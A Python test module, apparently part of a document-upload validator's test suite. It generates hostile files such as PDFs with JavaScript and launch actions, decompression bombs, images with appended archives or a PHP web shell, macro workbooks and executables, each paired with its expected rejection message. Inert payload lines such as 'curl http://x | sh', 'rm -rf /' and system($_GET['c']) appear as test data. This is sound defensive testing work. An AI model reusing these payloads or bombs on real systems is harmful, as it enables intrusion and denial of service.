"""A corpus of hostile files, made by code: documents built to carry code or break a parser,
images that hide another file or explode when decoded, workbooks that explode when read, and
things that are no document at all. Each case names the uploads it is sent to and a piece of
the message it must be refused with.

Targets: ``evidence`` (a supplier's evidence), ``payment`` (finance's payment document),
``serial_list`` (read by the worker), ``codes`` (allocated codes, read in the request).
"""

from __future__ import annotations

import functools
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pikepdf

from tests.documents import pdf_document

DOCUMENTS = frozenset({"evidence", "payment"})
LISTS = frozenset({"serial_list", "codes"})
EVERYWHERE = DOCUMENTS | LISTS


@dataclass(frozen=True)
class Case:
    name: str  # the file's name as uploaded
    make: Callable[[], bytes]
    targets: frozenset[str]
    says: str  # a piece of the refusal, matched without case
    why: str  # what the file is, for a person reading the test's id


# --- PDF --------------------------------------------------------------------------------------


def _pdf(build: Callable[[pikepdf.Pdf], None], **save: object) -> Callable[[], bytes]:
    def make() -> bytes:
        pdf = pikepdf.open(io.BytesIO(pdf_document("hostile")))
        build(pdf)
        out = io.BytesIO()
        pdf.save(out, **save)  # type: ignore[arg-type]
        return out.getvalue()

    return make


def _action(kind: str, **extra: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name(kind), **extra)


def _open_action(action: pikepdf.Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def build(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pdf.make_indirect(action)

    return build


def _names_javascript(pdf: pikepdf.Pdf) -> None:
    script = pdf.make_indirect(_action("/JavaScript", JS=pikepdf.String("app.alert(1)")))
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), script]))
    )


def _embedded_file(pdf: pikepdf.Pdf) -> None:
    spec = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 a program", filename="invoice.exe")
    pdf.attachments["invoice.exe"] = spec


def _link_annotation(action: pikepdf.Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def build(pdf: pikepdf.Pdf) -> None:
        annotation = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=pikepdf.Array([0, 0, 100, 100]),
            A=pdf.make_indirect(action),
        )
        pdf.pages[0].Annots = pikepdf.Array([pdf.make_indirect(annotation)])

    return build


def _page_actions(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].AA = pikepdf.Dictionary(O=_action("/JavaScript", JS=pikepdf.String("1")))


def _document_actions(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AA = pikepdf.Dictionary(WC=_action("/GoTo", D=pikepdf.Array([pdf.pages[0].obj])))


def _xfa(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = pikepdf.Dictionary(
        Fields=pikepdf.Array(), XFA=pdf.make_stream(b"<xdp:xdp><script>1</script></xdp:xdp>")
    )


def _rich_media(pdf: pikepdf.Pdf) -> None:
    annotation = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.RichMedia,
        Rect=pikepdf.Array([0, 0, 10, 10]),
        RichMediaContent=pikepdf.Dictionary(),
    )
    pdf.pages[0].Annots = pikepdf.Array([pdf.make_indirect(annotation)])


def _pages(count: int) -> Callable[[pikepdf.Pdf], None]:
    def build(pdf: pikepdf.Pdf) -> None:
        for _ in range(count - 1):
            pdf.pages.append(pdf.pages[0])

    return build


@functools.cache
def _zeros_deflated(megabytes: int) -> bytes:
    deflater = zlib.compressobj(9)
    piece = bytes(1 << 20)
    return b"".join(deflater.compress(piece) for _ in range(megabytes)) + deflater.flush()


def _flate_bomb(pdf: pikepdf.Pdf) -> None:
    stream = pikepdf.Stream(pdf, _zeros_deflated(600))
    stream.Filter = pikepdf.Name.FlateDecode
    pdf.pages[0].Contents = pdf.make_indirect(stream)


def _no_pages(pdf: pikepdf.Pdf) -> None:
    del pdf.pages[0]


def _encrypted(owner: str, user: str) -> dict[str, object]:
    return {"encryption": pikepdf.Encryption(owner=owner, user=user, R=6)}


def _pdf_then(trailer: bytes) -> Callable[[], bytes]:
    return lambda: pdf_document("a cover page") + trailer


def _raw_pdf(objects: dict[int, str], root: str = "1 0 R") -> bytes:
    """A PDF written by hand (a classic cross-reference table with right offsets), for what a
    library would not write: a catalog directly in the trailer, say."""
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += f"{number} 0 obj\n{objects[number]}\nendobj\n".encode("latin-1")
    size = max(objects) + 1
    table = len(out)
    out += f"xref\n0 {size}\n0000000000 65535 f \n".encode()
    for number in range(1, size):
        entry = f"{offsets[number]:010d} 00000 n" if number in offsets else "0000000000 65535 f"
        out += f"{entry} \n".encode()
    out += f"trailer\n<< /Size {size} /Root {root} >>\nstartxref\n{table}\n%%EOF\n".encode()
    return out


_PAGES = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
_PAGE = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"


def _direct_catalog(then: str) -> Callable[[], bytes]:
    root = (
        f"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next {then} >> >>"
    )
    return lambda: _raw_pdf({2: _PAGES, 3: _PAGE}, root=root)


def _page_with(annotation: str, *extra: str) -> Callable[[], bytes]:
    page = f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [{annotation}] >>"
    objects = {1: "<< /Type /Catalog /Pages 2 0 R >>", 2: _PAGES, 3: page}
    objects.update({4 + i: body for i, body in enumerate(extra)})
    return lambda: _raw_pdf(objects)


def _hex_wrapped_bomb(pdf: pikepdf.Pdf) -> None:
    """600 MiB of zeros deflated, then written as hex: Flate is not the first filter."""
    stream = pikepdf.Stream(pdf, _zeros_deflated(600).hex().encode())
    stream.Filter = pikepdf.Array([pikepdf.Name.ASCIIHexDecode, pikepdf.Name.FlateDecode])
    pdf.pages[0].Contents = pdf.make_indirect(stream)


def _zip_ending_in_eof() -> bytes:
    """A ZIP whose comment is "%%EOF", after a PDF: the last end-of-file marker is the ZIP's."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.exe", b"MZ" + bytes(100))
        archive.comment = b"%%EOF"
    return pdf_document("cover") + out.getvalue()


PDFS = [
    Case(
        "open-js.pdf",
        _pdf(_open_action(_action("/JavaScript", JS=pikepdf.String("app.launchURL('x')")))),
        DOCUMENTS,
        "JavaScript",
        "JavaScript run on opening",
    ),
    Case(
        "open-launch.pdf",
        _pdf(_open_action(_action("/Launch", F=pikepdf.String("cmd.exe")))),
        DOCUMENTS,
        "Launch",
        "a program launched on opening",
    ),
    Case(
        "open-submit.pdf",
        _pdf(_open_action(_action("/SubmitForm", F=pikepdf.String("http://x/")))),
        DOCUMENTS,
        "action when it is opened",
        "a form sent on opening",
    ),
    Case(
        "open-import.pdf",
        _pdf(_open_action(_action("/ImportData", F=pikepdf.String("x.fdf")))),
        DOCUMENTS,
        "action when it is opened",
        "data imported on opening",
    ),
    Case(
        "open-uri.pdf",
        _pdf(_open_action(_action("/URI", URI=pikepdf.String("http://x/")))),
        DOCUMENTS,
        "action when it is opened",
        "a web address opened on opening",
    ),
    Case(
        "names-js.pdf",
        _pdf(_names_javascript),
        DOCUMENTS,
        "JavaScript",
        "document-level JavaScript",
    ),
    Case(
        "attachment.pdf", _pdf(_embedded_file), DOCUMENTS, "files inside it", "a program attached"
    ),
    Case(
        "link-launch.pdf",
        _pdf(_link_annotation(_action("/Launch", F=pikepdf.String("calc")))),
        DOCUMENTS,
        "launches a program",
        "a link that launches a program",
    ),
    Case(
        "link-js.pdf",
        _pdf(_link_annotation(_action("/JavaScript", JS=pikepdf.String("1")))),
        DOCUMENTS,
        "JavaScript",
        "a link that runs JavaScript",
    ),
    Case(
        "link-submit.pdf",
        _pdf(_link_annotation(_action("/SubmitForm", F=pikepdf.String("http://x/")))),
        DOCUMENTS,
        "a form that sends data",
        "a link that sends a form",
    ),
    Case(
        "link-gotoe.pdf",
        _pdf(_link_annotation(_action("/GoToE"))),
        DOCUMENTS,
        "embedded file",
        "a link into an embedded file",
    ),
    Case(
        "page-aa.pdf", _pdf(_page_actions), DOCUMENTS, "JavaScript", "JavaScript when a page opens"
    ),
    Case(
        "document-aa.pdf",
        _pdf(_document_actions),
        DOCUMENTS,
        "document events",
        "actions on closing",
    ),
    Case("xfa.pdf", _pdf(_xfa), DOCUMENTS, "XFA", "an XFA form"),
    Case("rich-media.pdf", _pdf(_rich_media), DOCUMENTS, "embedded media", "Flash-era rich media"),
    Case(
        "pages-2001.pdf", _pdf(_pages(2001)), DOCUMENTS, "2,001 pages", "more pages than any record"
    ),
    Case(
        "flate-bomb.pdf",
        _pdf(_flate_bomb),
        DOCUMENTS,
        "inflate to more than",
        "600 MiB of zeros in 600 KB",
    ),
    Case("no-pages.pdf", _pdf(_no_pages), DOCUMENTS, "no pages", "a PDF with nothing to show"),
    Case(
        "password.pdf",
        _pdf(lambda pdf: None, **_encrypted("owner", "secret")),
        DOCUMENTS,
        "password",
        "opens only with a password",
    ),
    Case(
        "encrypted.pdf",
        _pdf(lambda pdf: None, **_encrypted("owner", "")),
        DOCUMENTS,
        "encrypted",
        "encrypted with an empty user password",
    ),
    Case("five-bytes.pdf", lambda: b"%PDF-", DOCUMENTS, "damaged", "only a header"),
    Case(
        "header-only.pdf",
        lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
        DOCUMENTS,
        "damaged",
        "a header and nothing after",
    ),
    Case("truncated.pdf", lambda: pdf_document("cut")[:200], DOCUMENTS, "damaged", "cut off early"),
    Case(
        "garbage.pdf",
        lambda: b"%PDF-1.4\n" + bytes(range(256)) * 40,
        DOCUMENTS,
        "damaged",
        "a header, then noise",
    ),
    Case(
        "pdf-zip.pdf",
        _pdf_then(b"PK\x03\x04" + bytes(60)),
        DOCUMENTS,
        "ZIP archive",
        "a ZIP behind the PDF",
    ),
    Case(
        "pdf-rar.pdf",
        _pdf_then(b"Rar!\x1a\x07\x00" + bytes(40)),
        DOCUMENTS,
        "RAR archive",
        "a RAR behind the PDF",
    ),
    Case(
        "pdf-7z.pdf",
        _pdf_then(b"7z\xbc\xaf\x27\x1c" + bytes(40)),
        DOCUMENTS,
        "7z archive",
        "a 7z behind the PDF",
    ),
    Case(
        "html-then-pdf.pdf",
        lambda: b"<html><script>alert(1)</script></html>\n" + pdf_document(),
        DOCUMENTS,
        "not accepted",
        "HTML that ends in a PDF",
    ),
    Case(
        "direct-catalog-js.pdf",
        _direct_catalog("<< /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        DOCUMENTS,
        "JavaScript",
        "a catalog inside the trailer, JavaScript after its opening action",
    ),
    Case(
        "direct-catalog-launch.pdf",
        _direct_catalog("<< /S /Launch /F (calc.exe) >>"),
        DOCUMENTS,
        "launches a program",
        "a catalog inside the trailer, a program after its opening action",
    ),
    Case(
        "3d-onInstantiate.pdf",
        _page_with(
            "<< /Type /Annot /Subtype /3D /Rect [0 0 200 200] /3DD 4 0 R >>",
            "<< /Type /3D /Subtype /U3D /OnInstantiate 5 0 R /Length 4 >>"
            "\nstream\nU3D\x00\nendstream",
            "<< /Length 13 >>\nstream\napp.alert(1);\nendstream",
        ),
        DOCUMENTS,
        "3D content",
        "3D content that runs JavaScript",
    ),
    Case(
        "uri-javascript.pdf",
        _page_with(
            "<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] "
            "/A << /S /URI /URI (javascript:alert\\(1\\)) >> >>"
        ),
        DOCUMENTS,
        "runs a script",
        "a javascript: link",
    ),
    Case(
        "gotor-url.pdf",
        _page_with(
            "<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] "
            "/A << /S /GoToR /F << /FS /URL /F (http://x/evil.pdf) >> /D [0 /Fit] >> >>"
        ),
        DOCUMENTS,
        "from the internet",
        "a link to a remote PDF",
    ),
    Case(
        "hex-flate-bomb.pdf", _pdf(_hex_wrapped_bomb), DOCUMENTS, "", "600 MiB behind a hex filter"
    ),
    Case(
        "pdf-zip-eof.pdf",
        _zip_ending_in_eof,
        DOCUMENTS,
        "ZIP archive",
        "a ZIP ending in %%EOF behind the PDF",
    ),
    Case(
        "pdf-as-photo.jpg", pdf_document, DOCUMENTS, "its name says .jpg", "a PDF named as a photo"
    ),
]


# --- images -----------------------------------------------------------------------------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, idat: bytes | None = None, *, crc_ok: bool = True) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    if idat is None:
        idat = zlib.compress(b"".join(b"\0" + bytes(width) for _ in range(height)))
    ihdr = _png_chunk(b"IHDR", header)
    if not crc_ok:
        ihdr = ihdr[:-4] + b"\0\0\0\0"
    return b"\x89PNG\r\n\x1a\n" + ihdr + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")


def _jpeg() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (32, 24), (200, 30, 30)).save(out, "JPEG")
    return out.getvalue()


def _jpeg_sized(width: int, height: int) -> bytes:
    """A small JPEG whose frame header claims ``width`` × ``height``."""
    data = bytearray(_jpeg())
    frame = data.find(b"\xff\xc0")
    data[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def _webp() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (16, 16), (0, 90, 0)).save(out, "WEBP")
    return out.getvalue()


def _zip(parts: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


SMALL_ZIP = functools.partial(_zip, {"payload.exe": b"MZ\x90\x00" + bytes(100)})

IMAGES = [
    Case(
        "bomb.png",
        lambda: _png(30_000, 30_000, zlib.compress(bytes(1000))),
        DOCUMENTS,
        "too large to open safely",
        "900 million pixels declared",
    ),
    Case(
        "wide.png",
        lambda: _png(2_000_000, 100, zlib.compress(bytes(1000))),
        DOCUMENTS,
        "too large to open safely",
        "two million pixels wide",
    ),
    Case(
        "truncated.png",
        lambda: _png(64, 64)[:60],
        DOCUMENTS,
        "damaged or truncated",
        "cut off in its data",
    ),
    Case(
        "bad-crc.png",
        lambda: _png(8, 8, crc_ok=False),
        DOCUMENTS,
        "damaged or truncated",
        "a header whose checksum is wrong",
    ),
    Case(
        "empty-idat.png",
        lambda: _png(64, 64, b""),
        DOCUMENTS,
        "damaged or truncated",
        "no pixel data",
    ),
    Case(
        "png-zip.png",
        lambda: _png(8, 8) + SMALL_ZIP(),
        DOCUMENTS,
        "after the end of the image",
        "a ZIP behind a PNG",
    ),
    Case(
        "png-text.png",
        lambda: _png(8, 8) + b"<?php system($_GET['c']); ?>",
        DOCUMENTS,
        "after the end of the image",
        "a script behind a PNG",
    ),
    Case(
        "jpeg-zip.jpg",
        lambda: _jpeg() + SMALL_ZIP(),
        DOCUMENTS,
        "ZIP archive",
        "a ZIP behind a JPEG",
    ),
    Case(
        "jpeg-pdf.jpg",
        lambda: _jpeg() + pdf_document(),
        DOCUMENTS,
        "PDF document",
        "a PDF behind a JPEG",
    ),
    Case(
        "jpeg-rar.jpg",
        lambda: _jpeg() + b"Rar!\x1a\x07\x00" + bytes(40),
        DOCUMENTS,
        "RAR archive",
        "a RAR behind a JPEG",
    ),
    Case(
        "jpeg-7z.jpg",
        lambda: _jpeg() + b"7z\xbc\xaf\x27\x1c" + bytes(40),
        DOCUMENTS,
        "7z archive",
        "a 7z behind a JPEG",
    ),
    Case(
        "truncated.jpg", lambda: _jpeg()[:120], DOCUMENTS, "damaged or truncated", "a JPEG cut off"
    ),
    Case(
        "webp-zip.webp",
        lambda: _webp() + SMALL_ZIP(),
        DOCUMENTS,
        "after the end of the image",
        "a ZIP behind a WebP",
    ),
    Case("truncated.webp", lambda: _webp()[:30], DOCUMENTS, "", "a WebP cut off"),
    Case(
        "huge.jpg",
        lambda: _jpeg_sized(65_000, 65_000),
        DOCUMENTS,
        "too large to open safely",
        "a JPEG header claiming 4 billion pixels",
    ),
    Case(
        "svg-as.png",
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        DOCUMENTS,
        "not accepted",
        "an SVG named as a PNG",
    ),
    Case("png-as.pdf", lambda: _png(8, 8), DOCUMENTS, "its name says .pdf", "a PNG named as a PDF"),
    Case("jpeg-as.png", _jpeg, DOCUMENTS, "its name says .png", "a JPEG named as a PNG"),
    Case(
        "label.svg",
        lambda: (
            b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
            b"<script>alert(2)</script></svg>"
        ),
        DOCUMENTS,
        "not accepted",
        "an SVG with script",
    ),
    Case(
        "label.gif",
        lambda: b"GIF89a\x01\x00\x01\x00\x00\x00\x00;",
        DOCUMENTS,
        "not accepted",
        "a GIF",
    ),
    Case(
        "label.bmp",
        lambda: (
            b"BM"
            + struct.pack("<IHHI", 70, 0, 0, 54)
            + struct.pack("<IiiHHIIiiII", 40, 1, 1, 1, 24, 0, 4, 0, 0, 0, 0)
            + bytes(4)
        ),
        DOCUMENTS,
        "not accepted",
        "a BMP",
    ),
    Case(
        "label.tiff",
        lambda: b"II*\x00\x08\x00\x00\x00" + bytes(40),
        DOCUMENTS,
        "not accepted",
        "a TIFF",
    ),
    Case(
        "label.ico",
        lambda: b"\x00\x00\x01\x00\x01\x00" + bytes(60),
        DOCUMENTS,
        "not accepted",
        "an icon",
    ),
    Case(
        "label.eps",
        lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 1 1\n(x) print\n",
        DOCUMENTS,
        "not accepted",
        "PostScript, which Pillow would run Ghostscript on",
    ),
    Case(
        "label.heic",
        lambda: b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(40),
        DOCUMENTS,
        "not accepted",
        "a HEIC photo",
    ),
]


# --- workbooks --------------------------------------------------------------------------------

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml"


def workbook_parts(
    rows: str, *, shared: str = "", dimension: str = "", main_type: str = ".sheet.main+xml"
) -> dict[str, bytes]:
    xml = '<?xml version="1.0" encoding="UTF-8"?>'
    parts = {
        "[Content_Types].xml": (
            f'<Types xmlns="{PACKAGE}/content-types">'
            '<Default Extension="rels" ContentType="application/'
            'vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{SHEET_TYPE}{main_type}"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" '
            f'ContentType="{SHEET_TYPE}.worksheet+xml"/>'
            '<Override PartName="/xl/sharedStrings.xml" '
            f'ContentType="{SHEET_TYPE}.sharedStrings+xml"/></Types>'
        ),
        "_rels/.rels": (
            f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="rId1" '
            f'Type="{RELATIONSHIPS}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            f'<workbook xmlns="{MAIN}" xmlns:r="{RELATIONSHIPS}"><sheets>'
            '<sheet name="Serials" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            f'<Relationships xmlns="{PACKAGE}/relationships">'
            f'<Relationship Id="rId1" Type="{RELATIONSHIPS}/worksheet" '
            'Target="worksheets/sheet1.xml"/>'
            f'<Relationship Id="rId2" Type="{RELATIONSHIPS}/sharedStrings" '
            'Target="sharedStrings.xml"/></Relationships>'
        ),
        "xl/sharedStrings.xml": f'<sst xmlns="{MAIN}">{shared}</sst>',
        "xl/worksheets/sheet1.xml": (
            f'<worksheet xmlns="{MAIN}">{dimension}<sheetData>{rows}</sheetData></worksheet>'
        ),
    }
    return {name: (xml + text).encode() for name, text in parts.items()}


def _rows(count: int) -> str:
    return "".join(
        f'<row r="{i}"><c r="A{i}" t="inlineStr"><is><t>VLT{i:06d}</t></is></c></row>'
        for i in range(1, count + 1)
    )


def _workbook(rows: str = "", **extra: object) -> Callable[[], bytes]:
    def make() -> bytes:
        parts = workbook_parts(rows or _rows(3), **extra)  # type: ignore[arg-type]
        return _zip(parts)

    return make


def _workbook_with(added: dict[str, bytes], **extra: object) -> Callable[[], bytes]:
    return lambda: _zip({**workbook_parts(_rows(3), **extra), **added})  # type: ignore[arg-type]


def _zip_bomb_workbook() -> bytes:
    """A sheet that inflates past the 1 GiB budget, its declared size a lie of 1 KB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in workbook_parts(_rows(3)).items():
            archive.writestr(name, data)
        info = zipfile.ZipInfo("xl/worksheets/sheet2.xml")
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w", force_zip64=True) as member:
            piece = b" " * (1 << 20)
            for _ in range(1100):
                member.write(piece)
    data = bytearray(out.getvalue())
    return bytes(data)


def _many_entries() -> bytes:
    return _zip(
        {**workbook_parts(_rows(3)), **{f"xl/media/e{i}.xml": b"" for i in range(10_001)}},
        zipfile.ZIP_STORED,
    )


def _encrypted_entry_zip() -> bytes:
    data = bytearray(_zip(workbook_parts(_rows(3)), zipfile.ZIP_STORED))
    # Set the "encrypted" flag on every local and central header.
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (found := data.find(signature, start)) >= 0:
            data[found + offset] |= 1
            start = found + 4
    return bytes(data)


XLSX_BOMBS = [
    Case(
        "corner-XFD1048576.xlsx",
        _workbook(_rows(3) + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
        EVERYWHERE - {"payment"},
        "XFD1048576",
        "one cell at the last column and row",
    ),
    Case(
        "corner-CV1000000.xlsx",
        _workbook(_rows(3) + '<row r="1000000"><c r="CV1000000"><v>1</v></c></row>'),
        EVERYWHERE - {"payment"},
        "CV1000000",
        "a far corner, 4 GB to read",
    ),
    Case(
        "corner-AA2000000.xlsx",
        _workbook(_rows(3) + '<row r="2000000"><c r="AA2000000"><v>1</v></c></row>'),
        EVERYWHERE - {"payment"},
        "AA2000000",
        "27 columns by two million rows",
    ),
    Case(
        "declared-dimension.xlsx",
        _workbook(dimension='<dimension ref="A1:XFD1048576"/>'),
        EVERYWHERE - {"payment"},
        "declares XFD1048576",
        "a dimension the size of the grid",
    ),
    Case(
        "declared-tall.xlsx",
        _workbook(dimension='<dimension ref="A1:ZZ9999999"/>'),
        EVERYWHERE - {"payment"},
        "declares ZZ9999999",
        "a dimension of 7 billion cells",
    ),
    Case(
        "long-shared-string.xlsx",
        _workbook(
            "".join(f'<row r="{i}"><c r="A{i}" t="s"><v>0</v></c></row>' for i in range(1, 2001)),
            shared="<si><t>" + "9" * (200 << 10) + "</t></si>",
        ),
        EVERYWHERE - {"payment"},
        "more than 32768 bytes",
        "200 KiB copied into 2,000 cells",
    ),
    Case(
        "long-inline.xlsx",
        _workbook(
            f'<row r="1"><c r="A1" t="inlineStr"><is><t>{"x" * (3 << 20)}</t></is></c></row>'
        ),
        EVERYWHERE - {"payment"},
        "more than 32768 bytes",
        "one cell of 3 MiB",
    ),
    Case(
        "inflates.xlsx",
        _zip_bomb_workbook,
        EVERYWHERE - {"payment"},
        "inflate",
        "a sheet that inflates past 1 GiB",
    ),
    Case(
        "entries.xlsx",
        _many_entries,
        EVERYWHERE - {"payment"},
        "a ZIP archive with 10,0",
        "ten thousand parts",
    ),
    Case(
        "encrypted-entries.xlsx",
        _encrypted_entry_zip,
        EVERYWHERE - {"payment"},
        "",
        "parts marked as encrypted",
    ),
    Case(
        "not-a-workbook.xlsx",
        lambda: _zip({"readme.txt": b"hello", "run.sh": b"#!/bin/sh\nrm -rf /\n"}),
        EVERYWHERE - {"payment"},
        "",
        "a ZIP of other things",
    ),
    Case("empty-zip.xlsx", lambda: _zip({}), EVERYWHERE - {"payment"}, "", "an empty ZIP"),
    Case(
        "broken-zip.xlsx",
        lambda: b"PK\x03\x04" + bytes(26) + b"junk" * 50,
        EVERYWHERE - {"payment"},
        "",
        "a ZIP header and noise",
    ),
    Case(
        "macros.xlsx",
        _workbook_with({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)}),
        frozenset({"evidence"}),
        "macros",
        "a VBA project inside",
    ),
    Case(
        "macro-enabled.xlsx",
        _workbook(main_type=".sheet.macroEnabled.main+xml"),
        frozenset({"evidence"}),
        "",
        "an .xlsm renamed",
    ),
    Case(
        "macro-sheet.xlsx",
        _workbook_with({"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"}),
        frozenset({"evidence"}),
        "macros",
        "an Excel 4 macro sheet",
    ),
    Case(
        "activex.xlsx",
        _workbook_with(
            {"xl/activeX/activeX1.xml": b"<ax:ocx/>", "xl/activeX/activeX1.bin": b"\0" * 64}
        ),
        frozenset({"evidence"}),
        "macros",
        "an ActiveX control",
    ),
    Case(
        "macro-charref.xlsx",
        lambda: _zip(
            {
                **workbook_parts(_rows(3), main_type=".sheet.macroEnable&#100;.main+xml"),
                "xl/code.bin": b"x",
            }
        ),
        frozenset({"evidence"}),
        "macros",
        "a macro-enabled type written with a character reference",
    ),
    Case(
        "macro-upper.xlsx",
        _workbook(main_type=".SHEET.MACROENABLED.MAIN+XML"),
        frozenset({"evidence"}),
        "macros",
        "a macro-enabled type in capitals",
    ),
    Case(
        "intl-macrosheet.xlsx",
        _workbook(
            main_type='.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet2.xml" '
            'ContentType="application/vnd.ms-excel.intlmacrosheet+xml'
        ),
        frozenset({"evidence"}),
        "macros",
        "an international macro sheet",
    ),
    Case(
        "ole-embedding.xlsx",
        _workbook_with(
            {"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(200)}
        ),
        frozenset({"evidence"}),
        "macros",
        "an embedded OLE object",
    ),
    Case(
        "legacy.xls",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504),
        EVERYWHERE,
        "",
        "a legacy or encrypted Office file",
    ),
    Case("workbook-as.pdf", _workbook(), DOCUMENTS, "", "a workbook named as a PDF"),
]


# --- not documents at all ---------------------------------------------------------------------

NOT_DOCUMENTS = [
    Case(
        "page.html",
        lambda: b"<!DOCTYPE html><html><body><script>fetch('/api/')</script></body></html>",
        EVERYWHERE - {"serial_list", "codes"},
        "not accepted",
        "an HTML page",
    ),
    Case(
        "invoice.pdf.html",
        lambda: b"<html><head><meta http-equiv=refresh content='0;url=http://x'></head></html>",
        DOCUMENTS,
        "not accepted",
        "HTML wearing two names",
    ),
    Case(
        "tool.exe",
        lambda: b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(54) + b"PE\x00\x00" + bytes(200),
        EVERYWHERE,
        "",
        "a Windows program",
    ),
    Case(
        "invoice.pdf.exe",
        lambda: b"MZ\x90\x00" + bytes(300),
        EVERYWHERE,
        "",
        "a program with a document's name",
    ),
    Case(
        "tool.elf", lambda: b"\x7fELF\x02\x01\x01" + bytes(120), EVERYWHERE, "", "a Linux program"
    ),
    Case(
        "serials.csv.gz",
        lambda: __import__("gzip").compress(b"VLT000001\n" * 100),
        EVERYWHERE,
        "",
        "gzip-compressed text",
    ),
    Case(
        "bundle.tar",
        lambda: b"x" * 257 + b"ustar\x0000" + bytes(250),
        EVERYWHERE - {"serial_list", "codes"},
        "",
        "a tar archive",
    ),
    Case(
        "archive.7z",
        lambda: b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(40),
        EVERYWHERE,
        "",
        "a 7z archive",
    ),
    Case(
        "archive.rar", lambda: b"Rar!\x1a\x07\x01\x00" + bytes(40), EVERYWHERE, "", "a RAR archive"
    ),
    Case("plain.zip", SMALL_ZIP, DOCUMENTS, "", "a ZIP with a program"),
    Case(
        "binary.csv",
        lambda: b"VLT000001\n\x00\x00\x00\x01\x02binary\n",
        EVERYWHERE - {"payment"},
        "",
        "text with NUL bytes",
    ),
    Case(
        "utf16-broken.csv",
        lambda: b"\xff\xfeV\x00L\x00T\x00\x00\xd8",
        frozenset({"serial_list", "codes"}),
        "",
        "UTF-16 cut in a surrogate",
    ),
    Case(
        "latin1.csv",
        lambda: b"serial\nVLT\xe9000001\nVLT\xff000002\n",
        frozenset({"serial_list", "codes"}),
        "",
        "text that is not UTF-8",
    ),
    Case("empty.csv", lambda: b"", EVERYWHERE, "empty", "nothing at all"),
    Case("blank.pdf", lambda: b" ", DOCUMENTS, "", "one space named as a PDF"),
    Case("script.sh", lambda: b"#!/bin/sh\ncurl http://x | sh\n", DOCUMENTS, "", "a shell script"),
    Case(
        "macro.vbs",
        lambda: b'CreateObject("WScript.Shell").Run "calc"\r\n',
        DOCUMENTS,
        "",
        "a VBScript",
    ),
    Case(
        "class.jar",
        lambda: _zip(
            {"META-INF/MANIFEST.MF": b"Main-Class: X\n", "X.class": b"\xca\xfe\xba\xbe" + bytes(20)}
        ),
        EVERYWHERE - {"serial_list", "codes"},
        "",
        "a Java program",
    ),
    Case(
        "photo.jpg.lnk",
        lambda: b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(70),
